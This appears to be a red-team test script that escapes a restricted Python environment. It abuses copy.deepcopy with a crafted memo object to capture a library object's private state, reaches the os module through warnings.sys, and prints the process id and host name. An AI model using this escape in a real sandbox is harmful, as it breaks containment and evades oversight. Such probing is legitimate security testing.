# family: red team, round 8 (deepcopy_memo_private_state_module)
# copy.deepcopy(x, memo) walks x's private state (its __dict__) and talks to the memo object it is given:
# memo.get(id) before each object, memo[id] = copy after, and memo[id(memo)] = [original] to keep
# originals alive. A memo of the tool's own that stops the walk (returns a stand-in) after the state dict
# is reached receives the ORIGINAL __dict__ of a library object. catch_warnings keeps the warnings module
# there (_module); the module's public attribute `sys` leads to sys.modules["os"].
import copy
import warnings


class Memo:
    def __init__(self):
        self.stored = []

    def get(self, key, default=None):
        return default if len(self.stored) < 2 else 0

    def __setitem__(self, key, value):
        self.stored.append(value)

    def __getitem__(self, key):
        raise KeyError(key)


def run():
    memo = Memo()
    copy.deepcopy(warnings.catch_warnings(), memo)
    state = [v for v in memo.stored if isinstance(v, list)][0][0]
    mod = state["_module"]
    osmod = mod.sys.modules["os"]
    return type(mod).__name__, mod.sys.platform, osmod.getpid(), osmod.uname().nodename


print(run())
